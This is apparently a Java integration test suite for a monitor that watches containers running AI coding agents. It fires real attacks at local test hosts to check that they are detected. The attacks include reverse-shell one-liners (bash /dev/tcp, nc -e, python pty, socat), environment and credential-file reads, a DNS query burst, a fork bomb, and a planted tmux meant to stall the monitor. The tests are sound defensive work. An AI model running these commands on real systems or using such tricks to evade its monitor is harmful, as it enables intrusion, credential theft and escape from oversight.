package coi.monitor;

import static org.assertj.core.api.Assertions.assertThat;

import coi.incus.IncusClient;
import coi.incus.Json;
import coi.incus.Model;
import coi.network.TestHosts;
import coi.testing.CoiProcess.Result;
import coi.testing.HostTmux;
import coi.testing.Sandbox;
import coi.testing.TestIncus;
import com.fasterxml.jackson.databind.JsonNode;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;

/**
 * Attacks from inside real containers under `--monitor`, aimed only at the test hosts in network
 * namespaces ({@link TestHosts}: 198.51.100.10 holds reverse-shell connections open and logs how
 * long each lived). Each reverse shell must be stopped within a second of its connection.
 */
@Tag("incus")
class MonitorAttacksIT {
    static final String HOST = TestHosts.INTERNET.getFirst();
    static final int PORT = TestHosts.HOLD_PORTS.getFirst();
    /** Runs of each reverse-shell form: 1 in CI; bench/monitor asks for more (-Dcoi.bench.runs=10) to print medians. */
    static final int RUNS = Integer.getInteger("coi.bench.runs", 1);
    static TestHosts hosts;
    static Path debs;

    @BeforeAll
    static void worldUp() throws Exception {
        try (IncusClient incus = TestIncus.client()) {
            hosts = new TestHosts(MonitorFixtures.gateway(incus));
        }
        debs = MonitorFixtures.attackTools();
    }

    @AfterAll
    static void worldDown() {
        if (hosts != null) hosts.close();
    }

    @Test
    void reverseShellsInEveryFormAreStoppedWithinASecondOfTheirConnection() throws Exception {
        String connect = HOST + " " + PORT;
        Map<String, String> attacks = new java.util.LinkedHashMap<>();
        attacks.put("bash /dev/tcp", "bash -i >& /dev/tcp/" + HOST + "/" + PORT + " 0>&1");
        attacks.put("nc -e", "nc.traditional -e /bin/bash " + connect);
        attacks.put("python pty", "python3 -c 'import socket,os,pty;s=socket.create_connection((\"" + HOST + "\"," + PORT
                + "));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"bash\")'");
        attacks.put("socat EXEC", "socat TCP:" + HOST + ":" + PORT + " EXEC:bash,pty,stderr,setsid");
        // as root, in a form whose command line does not name the peer, so that it is caught by its connection
        attacks.put("as root", "sudo " + attacks.get("python pty"));
        Map<String, List<Double>> responses = new java.util.LinkedHashMap<>();
        Map<String, Integer> beforeConnecting = new java.util.LinkedHashMap<>();
        try (Sandbox box = new Sandbox()) {
            Path keep = Files.writeString(box.workspace.resolve("keep.txt"), "precious\n");
            for (var attack : attacks.entrySet()) for (int run = 0; run < RUNS; run++) {
                TestHosts.assertRoutedLocally();
                int killedBefore = (int) MonitorFixtures.audit(box).stream().filter(e -> e.action() == Action.KILLED).count();
                int before = MonitorFixtures.closed(hosts.holdLog).size();
                // from a script, so that the command line coi runs does not give the attack away before it connects; the
                // tools are installed from / as in the ordinary workload below (from the workspace, the install's io
                // counted as workspace io froze the container before the attack, and the run waited for good)
                Files.writeString(box.workspace.resolve("attack.sh"), "(cd / && sudo dpkg -i --force-depends /debs/*.deb >/dev/null 2>&1)\necho mark > mark-"
                        + attack.getKey().replaceAll("\\W", "_") + "\n" + attack.getValue() + "\n");
                Result r = box.run("run", "--monitor", "--mount", debs + ":/debs", "--", "bash", "attack.sh");
                assertThat(r.exitCode()).as(attack.getKey() + ": " + r).isNotZero();
                List<String> coiLines = r.err().lines().filter(l -> l.startsWith("coi:")).toList();
                assertThat(coiLines).as(attack.getKey() + ": one line naming the threat: " + r).singleElement()
                        .satisfies(l -> assertThat(l).startsWith("coi: stopped by the monitor: reverse shell"));
                List<Double> closed = MonitorFixtures.closed(hosts.holdLog);
                if (closed.size() == before) {
                    // its command line gave it away at its exec (the process events): stopped before it could connect
                    System.out.printf("monitor response: %-14s stopped at its exec, before it connected%n", attack.getKey());
                    beforeConnecting.merge(attack.getKey(), 1, Integer::sum);
                } else {
                    assertThat(closed).as(attack.getKey() + ": one connection made and ended").hasSize(before + 1);
                    double seconds = closed.getLast();
                    System.out.printf("monitor response: %-14s connection stopped after %.3f s%n", attack.getKey(), seconds);
                    responses.computeIfAbsent(attack.getKey(), k -> new java.util.ArrayList<>()).add(seconds);
                    // CI of bd538f9 saw nc -e's connection close 24.5 s after it was accepted (once; 0.07-0.18 s otherwise): the
                    // message says whether the monitor's kill came late or the close took that long to reach the host
                    assertThat(seconds).as(() -> attack.getKey() + " stopped within 1 s of its connection; " + killedAfterAccept(box)).isLessThan(1.0);
                }
                assertThat(Files.readString(keep)).isEqualTo("precious\n");
                assertThat(box.workspace.resolve("mark-" + attack.getKey().replaceAll("\\W", "_"))).exists();
                List<AuditEvent> killed = MonitorFixtures.audit(box).stream().filter(e -> e.action() == Action.KILLED).toList();
                assertThat(killed).as(attack.getKey() + ": one audit line with evidence").hasSize(killedBefore + 1);
                AuditEvent last = killed.getLast();
                assertThat(last.level()).isEqualTo(Level.CRITICAL);
                assertThat(last.category()).isEqualTo(Threat.REVERSE_SHELL);
                assertThat(last.evidence().process()).isNotNull();
                assertThat(last.evidence().process().cmdline()).isNotEmpty();
            }
            assertThat(MonitorFixtures.audit(box).stream().filter(e -> e.action() == Action.KILLED).toList().getLast().evidence().process().uid())
                    .as("the root attack is recorded with uid 0").isZero();
        }
        responses.forEach((form, seconds) -> {
            List<Double> sorted = seconds.stream().sorted().toList();
            int n = sorted.size();
            double median = n % 2 == 1 ? sorted.get(n / 2) : (sorted.get(n / 2 - 1) + sorted.get(n / 2)) / 2;
            System.out.printf("monitor response median: %-14s %.3f s over %d run(s) (%.3f-%.3f)%s%n", form, median, n, sorted.getFirst(),
                    sorted.getLast(), early(beforeConnecting, form));
        });
        beforeConnecting.forEach((form, n) -> {
            if (!responses.containsKey(form)) System.out.printf("monitor response median: %-14s no connection made%s%n", form, early(beforeConnecting, form));
        });
    }

    private static String early(Map<String, Integer> beforeConnecting, String form) {
        Integer n = beforeConnecting.get(form);
        return n == null ? "" : "; " + n + " run(s) stopped at the exec, before connecting";
    }

    @Test
    void aDetachedSessionIsWatchedAnEnvironmentScanIsAWarningAndAReverseShellStopsItWithTheSessionKept() throws Exception {
        try (Sandbox box = new Sandbox(); IncusClient incus = TestIncus.client()) {
            String name = detachedMonitored(box);
            assertThat(box.run("list").out()).contains(name).contains("    Monitor: watched");
            scanEnvironments(box, incus, name);
            AuditEvent warning = MonitorFixtures.audit(box).stream().filter(e -> e.category().equals(Threat.CREDENTIALS)).findFirst().orElseThrow();
            assertThat(warning.level()).isEqualTo(Level.WARNING);
            assertThat(warning.action()).isEqualTo(Action.ALERTED);
            assertThat(incus.instance(name).running()).as("a warning does not stop the container").isTrue();

            Path sessionDir = box.sessionDirs().getFirst();
            Path toolState = Files.writeString(sessionDir.resolve("state/conversation.jsonl"), "{\"turn\": 1}\n");
            TestHosts.assertRoutedLocally();
            MonitorFixtures.startReverseShell(incus, name);
            MonitorFixtures.awaitGone(incus, name, 10);
            assertThat(MonitorFixtures.closed(hosts.holdLog).getLast()).as("stopped within 1 s of the connection").isLessThan(1.0);
            System.out.printf("monitor response: %-14s connection stopped after %.3f s%n", "detached", MonitorFixtures.closed(hosts.holdLog).getLast());
            String metadata = Files.readString(sessionDir.resolve("metadata.json"));
            assertThat(metadata).contains("\"status\" : \"ended\"").contains("\"stopped_by\" : \"monitor: reverse shell");
            assertThat(Files.readString(toolState)).as("the tool's state survives").isEqualTo("{\"turn\": 1}\n");
        }
    }

    /**
     * The agent turns the monitor's own warning against it: root inside replaces tmux (first on the
     * exec's PATH) with a program that floods its output and never ends, then does something that
     * is a warning. The warning's exec is bounded (output dropped, end awaited 3 s), so the monitor,
     * which answers every container from one place, carries on: a reverse shell started after it is
     * stopped within a second of its connection, as always.
     */
    @Test
    void aTmuxThatNeverReturnsCannotHoldTheMonitor() throws Exception {
        try (Sandbox box = new Sandbox(); IncusClient incus = TestIncus.client()) {
            String name = detachedMonitored(box);
            MonitorFixtures.inside(incus, name, 1000, "printf '#!/bin/sh\\nexec yes flood\\n' | sudo tee /usr/local/bin/tmux >/dev/null"
                    + " && sudo chmod 755 /usr/local/bin/tmux");
            scanEnvironments(box, incus, name);
            Path log = box.home.resolve(".coi/watcher.log");
            coi.testing.Await.until(() -> text(log).contains("the warning in " + name + " did not return within 3 s"), 15,
                    () -> "the warning's exec was not given up: " + text(log));

            TestHosts.assertRoutedLocally();
            MonitorFixtures.startReverseShell(incus, name);
            MonitorFixtures.awaitGone(incus, name, 10);
            assertThat(MonitorFixtures.closed(hosts.holdLog).getLast()).as("stopped within 1 s of the connection").isLessThan(1.0);
            assertThat(Files.readString(box.sessionDirs().getFirst().resolve("metadata.json"))).contains("\"stopped_by\" : \"monitor: reverse shell");
        }
    }

    /** A `coi shell --detach --monitor` of {@code box}; its container. */
    private static String detachedMonitored(Sandbox box) {
        Result started = box.run("shell", "--detach", "--monitor");
        assertThat(started.exitCode()).as(started.toString()).isZero();
        return box.container(1);
    }

    /**
     * The quick scan of the issue, as code, until the monitor has its warning: kept open 50 ms (a quarter of a look) by the
     * stdin it also reads, it is seen through the process events (an exec is read at once); one over in a millisecond or two
     * is missed when the host's reader wakes later than that (README), which on a loaded machine it sometimes does.
     */
    private static void scanEnvironments(Sandbox box, IncusClient incus, String name) throws InterruptedException {
        MonitorFixtures.inside(incus, name, 1000, "sleep 0.05 | cat /proc/*/environ - 2>/dev/null | tr '\\0' '\\n' | grep -i key");
        MonitorFixtures.awaitAudit(box, e -> e.category().equals(Threat.CREDENTIALS), 10);
    }

    private static String text(Path file) {
        try {
            return Files.readString(file);
        } catch (java.io.IOException notYet) {
            return "";
        }
    }

    /**
     * A warning seen by the user end to end: `coi shell --monitor` runs in a host tmux as on a
     * terminal; a process inside holds another process's environment open (tail -f of
     * /proc/PID/environ, so that it is still there for `coi monitor` to see); the warning shows in
     * the session's tmux message line (the attached client's bottom row, as the host pane shows it),
     * in `coi audit NAME` as text and JSON and in `coi monitor NAME` as text and JSON.
     */
    @Test
    void aWarningShowsInTheSessionsTmuxInAuditAndInMonitorAsTextAndJson() throws Exception {
        try (Sandbox box = new Sandbox(); HostTmux tmux = new HostTmux(); IncusClient incus = TestIncus.client()) {
            String w = tmux.start(box.commandLine("shell --monitor"));
            tmux.await(w, "fake-ai> ", Duration.ofSeconds(90));
            String name = box.container(1);
            MonitorFixtures.inside(incus, name, 1000, "setsid -f bash -c 'sleep 120 & exec timeout 60 tail -f /proc/$!/environ' >/dev/null 2>&1");
            String screen = tmux.await(w, "coi monitor: warning: reading other processes' environment", Duration.ofSeconds(15));
            assertThat(screen.strip().lines().toList().getLast()).as("on the message line").contains("coi monitor: warning");

            Result json = box.run("audit", name, "--format", "json");
            assertThat(json.exitCode()).as(json.toString()).isZero();
            List<JsonNode> events = json.out().lines().map(l -> Json.parse(l.getBytes(StandardCharsets.UTF_8))).toList();
            assertThat(events).anySatisfy(e -> {
                assertThat(e.path("level").asText()).isEqualTo("warning");
                assertThat(e.path("category").asText()).isEqualTo(Threat.CREDENTIALS);
                assertThat(e.path("action").asText()).isEqualTo(Action.ALERTED.label());
                assertThat(e.path("container").asText()).isEqualTo(name);
                assertThat(e.path("evidence").path("process").path("cmdline").toString()).contains("tail").containsPattern("/proc/\\d+/environ");
                assertThat(e.path("evidence").path("process").path("uid").asInt()).isEqualTo(1000);
            });
            Result text = box.run("audit", name);
            assertThat(text.out()).contains("warning", Action.ALERTED.label(), name, "reading other processes' environment");

            Result view = box.run("monitor", name);
            assertThat(view.exitCode()).as(view.toString()).isZero();
            assertThat(view.out()).contains(name + "  Running  monitored").containsPattern("tail -f /proc/\\d+/environ")
                    .containsPattern("warning +" + Threat.CREDENTIALS + " +reading other processes' environment");
            Result viewJson = box.run("monitor", name, "--format", "json");
            assertThat(viewJson.exitCode()).as(viewJson.toString()).isZero();
            JsonNode report = Json.parse(viewJson.out().getBytes(StandardCharsets.UTF_8));
            assertThat(report.path("monitored").asBoolean()).isTrue();
            assertThat(report.path("threats")).anySatisfy(t -> {
                assertThat(t.path("level").asText()).isEqualTo("warning");
                assertThat(t.path("category").asText()).isEqualTo(Threat.CREDENTIALS);
                assertThat(t.path("evidence").path("process").path("cmdline").toString()).contains("environ");
            });
            assertThat(incus.instance(name).running()).as("a warning does not stop the container").isTrue();
            assertThat(box.run("kill", name).exitCode()).isZero();
        }
    }

    /**
     * The three newest detectors, attacked from inside: the coding tool's credential file held open
     * by another program (warning, runs on), then a burst of DNS queries (high, frozen) in one
     * restricted session; repeated blocked connection attempts in an allowlist session (high, frozen).
     * The queries ask for names under the bridge's own domain, which its dnsmasq answers itself (-S /incus/):
     * nothing leaves the machine.
     */
    @Test
    void theToolsCredentialFileADnsBurstAndRisingBlockedAttemptsAreCaughtFromInside() throws Exception {
        try (Sandbox box = new Sandbox(); IncusClient incus = TestIncus.client()) {
            assertThat(box.run("shell", "--detach", "--monitor").exitCode()).isZero();
            String name = box.container(1);
            MonitorFixtures.inside(incus, name, 1000, "mkdir -p ~/.codex && echo '{\"token\": \"x\"}' > ~/.codex/auth.json"
                    + " && (timeout 3 tail -f ~/.codex/auth.json >/dev/null; true)");
            MonitorFixtures.awaitAudit(box, e -> e.title().startsWith("reading codex's credential file"), 10);
            AuditEvent credential = MonitorFixtures.audit(box).stream().filter(e -> e.title().startsWith("reading codex's")).findFirst().orElseThrow();
            assertThat(credential.level()).isEqualTo(Level.WARNING);
            assertThat(credential.evidence().process().cmdline()).contains("tail");
            assertThat(incus.instance(name).running()).as("a warning does not stop the container").isTrue();

            // four resolvers at once: one loop of lookups, slowed by a loaded machine (each is a process),
            // stayed under the burst's rate once in CI (not frozen after 15 s)
            MonitorFixtures.inside(incus, name, 1000, "setsid -f bash -c 'for j in 1 2 3 4; do (for i in $(seq 1 250); do"
                    + " getent hosts coitest-burst-$j-$i.incus >/dev/null; done) & done; wait'");
            MonitorFixtures.awaitStatus(incus, name, "Frozen", 30);
            assertThat(MonitorFixtures.audit(box)).anySatisfy(e -> {
                assertThat(e.category()).isEqualTo(Threat.DNS_TUNNEL);
                assertThat(e.level()).isEqualTo(Level.HIGH);
                assertThat(e.action()).isEqualTo(Action.PAUSED);
            });
        }
        try (Sandbox box = new Sandbox(); IncusClient incus = TestIncus.client()) {
            Path config = Files.writeString(box.root.resolve("allow.toml"), "[network]\nmode = \"allowlist\"\nallowed_domains = [\"" + HOST + "\"]\n");
            Result started = box.coi().env("COI_CONFIG", config.toString()).run("shell", "--detach", "--monitor");
            assertThat(started.exitCode()).as(started.toString()).isZero();
            String name = box.container(1);
            String outside = TestHosts.INTERNET.get(1);
            TestHosts.assertRoutedLocally();
            MonitorFixtures.inside(incus, name, 1000, "setsid -f bash -c 'for i in $(seq 1 30); do curl -s -m 1 -o /dev/null http://" + outside + "/; sleep 0.1; done'");
            MonitorFixtures.awaitStatus(incus, name, "Frozen", 15);
            assertThat(MonitorFixtures.audit(box)).anySatisfy(e -> {
                assertThat(e.title()).contains("blocked connection attempts in");
                assertThat(e.level()).isEqualTo(Level.HIGH);
                assertThat(e.action()).isEqualTo(Action.PAUSED);
            });
        }
    }

    /**
     * A persistent monitored session rebooted from inside (`sudo reboot` as code, as an agent could): the container that
     * comes back has the same name but a new /workspace mount, new processes and no history. A watch kept from before
     * the reboot would see no workspace io at all; the supervisor watches it afresh, so a large write after it still
     * freezes it. Without protected paths, so that the workspace is mounted directly and comes back with the restart
     * (with a protected view the supervisor stops such a container instead: `ViewlessRestartIT`).
     */
    @Test
    void aContainerRebootedFromInsideIsWatchedAfreshAndALargeWorkspaceWriteStillFreezesIt() throws Exception {
        try (Sandbox box = new Sandbox(); IncusClient incus = TestIncus.client()) {
            Path config = Files.writeString(box.root.resolve("unprotected.toml"), "[security]\nprotected_paths = []\n");
            Result started = box.coi().env("COI_CONFIG", config.toString()).run("shell", "--detach", "--monitor", "--persistent");
            assertThat(started.exitCode()).as(started.toString()).isZero();
            String name = box.container(1);
            long before = init(incus, name);
            MonitorFixtures.inside(incus, name, 1000, "setsid -f bash -c 'sleep 1; sudo reboot' >/dev/null 2>&1");
            MonitorFixtures.await(() -> init(incus, name) > 0 && init(incus, name) != before, 60, () -> name + " did not come back from its reboot");
            MonitorFixtures.await(() -> MonitorFixtures.audit(box).stream().filter(e -> e.title().equals("monitoring started")).count() >= 2, 30,
                    () -> "the rebooted container is not watched again: " + box.diagnostics());
            // the workspace came back with the restart, and the supervisor left the container running
            MonitorFixtures.inside(incus, name, 1000, "echo back > /workspace/after-reboot.txt");
            MonitorFixtures.awaitFile(box.workspace.resolve("after-reboot.txt"), 5);
            MonitorFixtures.inside(incus, name, 1000, "setsid -f bash -c 'head -c 300M /dev/zero > /workspace/out.bin'");
            MonitorFixtures.await(() -> "Frozen".equals(incus.findInstance(name).map(Model.Instance::status).orElse("")), 15,
                    () -> name + " is not frozen after a large workspace write: " + box.diagnostics());
            assertThat(MonitorFixtures.audit(box)).anySatisfy(e -> {
                assertThat(e.action()).isEqualTo(Action.PAUSED);
                assertThat(e.title()).startsWith("large workspace write");
            });
        }
    }

    /** The container's init process on the host, 0 while it is not running. */
    private static long init(IncusClient incus, String name) {
        return incus.instances().stream().filter(i -> i.name().equals(name) && i.running() && i.state() != null)
                .mapToLong(i -> i.state().pid()).findFirst().orElse(0);
    }

    @Test
    void aLargeWorkspaceReadFreezesTheContainerListShowsWhyAndResumeLetsItCarryOn() throws Exception {
        try (Sandbox box = new Sandbox(); IncusClient incus = TestIncus.client()) {
            MonitorFixtures.bigFile(box.workspace.resolve("big.bin"), 200);
            assertThat(box.run("shell", "--detach", "--monitor").exitCode()).isZero();
            String name = box.container(1);
            MonitorFixtures.inside(incus, name, 1000, "setsid -f bash -c 'cat /workspace/big.bin > /dev/null; sleep 3; echo carried-on > /workspace/after.txt'");
            MonitorFixtures.awaitStatus(incus, name, "Frozen", 10);
            assertThat(MonitorFixtures.audit(box)).anySatisfy(e -> {
                assertThat(e.action()).isEqualTo(Action.PAUSED);
                assertThat(e.title()).startsWith("large workspace read");
                assertThat(e.evidence().filesystem().bytes()).isGreaterThan(100L * 1024 * 1024);
            });
            Result list = box.run("list");
            assertThat(list.out()).contains("Frozen").contains("frozen by the monitor: large workspace read");
            Result resume = box.run("resume", name);
            assertThat(resume.exitCode()).as(resume.toString()).isZero();
            MonitorFixtures.awaitFile(box.workspace.resolve("after.txt"), 15);
            assertThat(incus.instance(name).running()).isTrue();
        }
    }

    @Test
    void aForkBombIsStoppedAndTheHostStaysResponsive() throws Exception {
        try (Sandbox box = new Sandbox(); IncusClient incus = TestIncus.client()) {
            assertThat(box.run("shell", "--detach", "--monitor").exitCode()).isZero();
            String name = box.container(1);
            // the safety net on a 2-core machine: the kernel caps the bomb even if the monitor did not
            incus.setConfig(name, "limits.processes", "2000");
            // from the exec that starts it: the guard may answer before that exec has returned
            java.time.Instant started = java.time.Instant.now();
            MonitorFixtures.inside(incus, name, 1000, "setsid -f bash -c ':(){ :|:& };:'");
            long t0 = System.nanoTime();
            MonitorFixtures.awaitGone(incus, name, 60);
            double stopped = (System.nanoTime() - t0) / 1e9;
            AuditEvent killed = MonitorFixtures.audit(box).stream().filter(e -> e.action() == Action.KILLED).findFirst().orElseThrow();
            double answered = java.time.Duration.between(started, killed.time().toInstant()).toMillis() / 1000.0;
            System.out.printf("monitor response: %-14s answered (every process killed) %.3f s after the bomb started (%s);"
                    + " container stopped by Incus after %.3f s%n", "fork bomb", answered, killed.title(), stopped);
            assertThat(answered).as("answered while the bomb is young (its count climbing, far from the kernel's cap)").isLessThan(10.0);
            long h0 = System.nanoTime();
            assertThat(new ProcessBuilder("true").start().waitFor()).isZero();
            assertThat((System.nanoTime() - h0) / 1e9).as("the host answers").isLessThan(2.0);
            assertThat(MonitorFixtures.audit(box)).anySatisfy(e -> {
                assertThat(e.action()).isEqualTo(Action.KILLED);
                assertThat(e.category()).isEqualTo(Threat.PROCESSES);
            });
        }
    }

    /**
     * Everything is run from /workspace, as an agent does: installing from Debian's registry (apt
     * reads and writes hundreds of MB outside the workspace) and npm install from npm's (node from
     * Debian, npm from its registry tarball) must not count as workspace io; building writes into
     * the workspace. The registries are reached through the machine's TLS-inspecting proxy, whose CA
     * the test image lacks: the host's bundle is mounted for curl and npm.
     */
    @Test
    void anOrdinaryWorkloadIsNeitherFrozenNorKilledAndLogsNothingAboveWarning() throws Exception {
        try (Sandbox box = new Sandbox()) {
            MonitorFixtures.smallProject(box.workspace);
            Path repos = Files.createDirectories(box.root.resolve("git"));
            MonitorFixtures.gitRepository(repos.resolve("origin.git"), box.workspace.resolve("calc.py"));
            hosts.serveGit(repos);
            Path cas = Files.createDirectories(box.root.resolve("cas"));
            Files.copy(Path.of("/etc/ssl/certs/ca-certificates.crt"), cas.resolve("host.crt"));
            TestHosts.assertRoutedLocally();
            long t0 = System.nanoTime();
            Result r = box.run("run", "--monitor", "--mount", debs + ":/debs", "--mount", cas + ":/cas", String.join("\n",
                    "set -e",
                    "test \"$PWD\" = /workspace",
                    "sudo apt-get update -qq && sudo DEBIAN_FRONTEND=noninteractive apt-get install -y -qq --no-install-recommends nodejs >/dev/null",
                    // after apt: its dependencies left unmet (their optional parts are not needed here), apt would refuse to install
                    "sudo dpkg -i --force-depends /debs/libpython3*.deb /debs/git_*.deb >/dev/null 2>&1",
                    "echo \"node $(node --version)\"",
                    "curl -sSfL --cacert /cas/host.crt " + NPM_TARBALL + " | tar xz -C /tmp",
                    "export npm_config_cafile=/cas/host.crt npm_config_update_notifier=false",
                    "echo '{\"name\":\"calc\",\"version\":\"1.0.0\"}' > package.json",
                    "node /tmp/package/bin/npm-cli.js install --no-audit --no-fund --loglevel=error lodash@4.17.21",
                    "node -e 'console.log(\"npm \" + require(\"lodash\").VERSION)'",
                    // from the git daemon on a test host (a repository this test made)
                    "git clone -q -b main git://" + TestHosts.INTERNET.get(2) + "/origin.git cloned && echo \"cloned $(git -C cloned log --format=%s)\" && rm -rf cloned",
                    "python3 -m unittest -q test_calc 2>&1",
                    // a build: byte-compiled sources and a 40 MB bundle of the project and its modules, written into the workspace
                    "python3 -m compileall -q . && mkdir -p dist && head -c 40M /dev/urandom > dist/assets.bin && tar czf dist/calc.tgz calc.py node_modules dist/assets.bin",
                    "echo \"built $(du -sm dist | cut -f1) MB\"",
                    "grep -rn 'def ' --include=*.py . | wc -l",
                    "python3 -m http.server 8000 --bind 0.0.0.0 >/dev/null 2>&1 & server=$!",
                    "sleep 1; curl -s -o /dev/null -w 'dev server %{http_code}\\n' http://127.0.0.1:8000/",
                    "curl -s --http0.9 http://" + HOST + "/",
                    "for i in $(seq 1 20); do python3 -c 'print(1)' >/dev/null; done",
                    "kill $server; sleep 1; echo done"));
            System.out.printf("ordinary workload under the monitor: %.1f s%n", (System.nanoTime() - t0) / 1e9);
            assertThat(r.exitCode()).as(r.toString()).isZero();
            assertThat(r.out()).contains("node v18.").contains("npm 4.17.21").contains("cloned seed").contains("built ")
                    .contains("dev server 200").contains("coitest " + HOST).contains("done");
            assertThat(MonitorFixtures.audit(box)).as("nothing above warning").allMatch(e -> e.level().compareTo(Level.WARNING) <= 0);
            assertThat(MonitorFixtures.audit(box)).noneMatch(e -> e.action() == Action.KILLED || e.action() == Action.PAUSED);
        }
    }

    /** npm from its registry: 10.9 is the newest line that runs on Debian 12's node 18 (engines ^18.17.0). */
    static final String NPM_TARBALL = "https://registry.npmjs.org/npm/-/npm-10.9.2.tgz";

    /** How long after the hold host's last accept the last KILLED audit event was written. */
    private static String killedAfterAccept(Sandbox box) {
        try {
            double accepted = Files.readAllLines(hosts.holdLog).stream().filter(l -> l.startsWith("accept ")).map(l -> Double.parseDouble(l.split(" ")[2]))
                    .reduce((a, b) -> b).orElse(Double.NaN);
            List<AuditEvent> killed = MonitorFixtures.audit(box).stream().filter(e -> e.action() == Action.KILLED).toList();
            if (killed.isEmpty()) return "no KILLED audit event yet";
            double at = java.time.OffsetDateTime.parse(killed.getLast().timestamp()).toInstant().toEpochMilli() / 1000.0;
            return String.format("the kill's audit event came %.3f s after the accept", at - accepted);
        } catch (IOException | RuntimeException e) {
            return "timing unknown: " + e;
        }
    }
}
